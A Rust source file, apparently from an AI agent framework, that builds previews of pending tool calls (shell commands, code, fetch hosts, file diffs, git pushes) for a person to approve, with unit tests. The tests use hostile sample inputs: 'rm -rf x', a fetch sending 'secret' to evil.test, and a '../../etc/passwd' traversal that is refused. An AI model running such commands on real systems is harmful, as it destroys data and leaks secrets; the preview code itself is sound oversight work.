//! What would happen if a call were made, for a person who is asked: the diff of a file, the command, the host.
//!
//! It is what the call says, read by the rules of the tool; nothing is done, and nothing of it is believed.

use std::sync::Arc;

use drydock_abi::llm::ToolCall;
use drydock_contract::{
    Meter,
    port::{FileError, FileKind, Files, Follow, Mode, TreePath},
};
use drydock_egress::Target;
use drydock_store::{COMPARE_MAX, Change, ChangeKind, MemoryFiles, file_diff};
use serde_json::{Value, json};

use crate::tree::read_whole;

/// The longest file whose diff is shown.
const FILE_BYTES_MAX: u64 = 1 << 20;
/// The longest text that is shown.
const SHOWN_BYTES_MAX: usize = 32 << 10;

/// What a person is shown of a call besides its arguments; none where those say it all.
pub(super) fn preview(files: &dyn Files, cwd: &str, call: &ToolCall) -> Option<Value> {
    let text = |name: &str| call.arguments.get(name).and_then(Value::as_str);
    match call.name.as_str() {
        "shell" => Some(json!({ "command": cut(text("pipeline")?) })),
        "run_code" => Some(json!({ "program": cut(text("code")?) })),
        "fetch" => Some(match text("url")?.parse::<Target>() {
            Ok(target) => {
                json!({ "host": format!("{}:{}", target.host(), target.port()), "url": cut(text("url")?) })
            }
            Err(_) => json!({ "url": cut(text("url")?) }),
        }),
        "vfs_write" => {
            let diff = |path: &TreePath| changed(files, path, text("content")?.as_bytes());
            diff_of(cwd, text("path")?, diff)
        }
        "edit_file" => {
            let all = call.arguments.get("all").and_then(Value::as_bool).unwrap_or_default();
            let diff = |path: &TreePath| {
                let before = String::from_utf8(read_whole(files, path, FILE_BYTES_MAX).ok()?).ok()?;
                let (old, new) = (text("old")?, text("new")?);
                let after = match (all, before.matches(old).count()) {
                    (_, 0) => return None,
                    (true, _) | (_, 1) => before.replace(old, new),
                    // It would be refused, and change nothing.
                    _ => return None,
                };
                changed(files, path, after.as_bytes())
            };
            diff_of(cwd, text("path")?, diff)
        }
        "git" => Some(json!({ "command": format!("git commit and push: {}", cut(text("message")?)) })),
        _ => None,
    }
}

fn diff_of(cwd: &str, path: &str, diff: impl FnOnce(&TreePath) -> Option<String>) -> Option<Value> {
    let full = match path.strip_prefix('/') {
        Some(absolute) => absolute.to_owned(),
        None => format!("{}/{path}", cwd.trim_start_matches('/')),
    };
    // The tool refuses a path that climbs above the root: nothing of it would be done.
    let depths = full.split('/').scan(0_i64, |depth, part| {
        *depth += match part {
            "" | "." => 0,
            ".." => -1,
            _ => 1,
        };
        Some(*depth)
    });
    if depths.min().is_some_and(|it| it < 0) {
        return None;
    }
    let full = TreePath::new(&full).ok()?;
    let shown = format!("/{}", full.as_str());
    Some(match diff(&full) {
        Some(diff) => json!({ "path": shown, "diff": cut(&diff) }),
        None => json!({ "path": shown }),
    })
}

/// What is different in a file that would hold these bytes.
fn changed(files: &dyn Files, path: &TreePath, bytes: &[u8]) -> Option<String> {
    let was = match files.stat(path, Follow::Yes) {
        Ok(stat) if stat.kind == FileKind::File && stat.size <= FILE_BYTES_MAX => Some(stat),
        Err(FileError::NotFound) => None,
        _ => return None,
    };
    let after = MemoryFiles::with(Arc::new(Meter::new(4 * FILE_BYTES_MAX)));
    after.write(path.as_str(), bytes).ok()?;
    let mode = was.as_ref().map_or(Mode::FILE, |it| it.mode.plain());
    let change = Change {
        path: path.as_str().to_owned(),
        kind: if was.is_some() { ChangeKind::Modified } else { ChangeKind::Added },
        was: was.as_ref().map(|it| it.kind),
        is: Some(FileKind::File),
        size: bytes.len() as u64,
        was_mode: was.as_ref().map(|it| it.mode.plain()),
        is_mode: Some(mode),
        only_mode: false,
    };
    Some(file_diff(files, &after, &change, path.as_str(), COMPARE_MAX).ok()?.text)
}

fn cut(text: &str) -> String {
    match text.len() {
        0..=SHOWN_BYTES_MAX => text.to_owned(),
        _ => format!("{}…", &text[..text.floor_char_boundary(SHOWN_BYTES_MAX)]),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(call: &str, arguments: Value) -> Option<Value> {
        let files = MemoryFiles::with(Arc::new(Meter::new(1 << 20)));
        files.write("workspace/a.txt", b"one\ntwo\n").unwrap();
        let arguments = arguments.as_object().cloned().unwrap();
        preview(
            &files,
            "/workspace",
            &ToolCall { id: "1".into(), name: call.into(), arguments, malformed: None },
        )
    }

    #[test]
    fn a_person_sees_the_diff_the_command_and_the_host() {
        let edit = shown("edit_file", json!({ "path": "a.txt", "old": "two", "new": "2" })).unwrap();
        let diff = edit["diff"].as_str().unwrap();
        assert!(edit["path"] == "/workspace/a.txt" && diff.contains("-two\n+2\n"), "{edit}");
        let write = shown("vfs_write", json!({ "path": "/memory/new", "content": "x\n" })).unwrap();
        assert!(write["diff"].as_str().unwrap().contains("new file"), "{write}");
        assert_eq!(shown("shell", json!({ "pipeline": "rm -rf x" })).unwrap()["command"], "rm -rf x");
        let fetch = shown("fetch", json!({ "url": "https://evil.test/?q=secret" })).unwrap();
        assert_eq!(fetch["host"], "evil.test:443", "{fetch}");
        assert!(shown("search", json!({ "query": "x" })).is_none());
    }

    #[test]
    fn an_edit_that_would_change_nothing_shows_no_diff_and_a_path_that_leads_out_nothing() {
        let edit =
            |old: &str| shown("edit_file", json!({ "path": "a.txt", "old": old, "new": "x" })).unwrap();
        assert!(edit("three").get("diff").is_none() && edit("o").get("diff").is_none());
        assert!(shown("vfs_write", json!({ "path": "../../etc/passwd", "content": "x" })).is_none());
    }
}
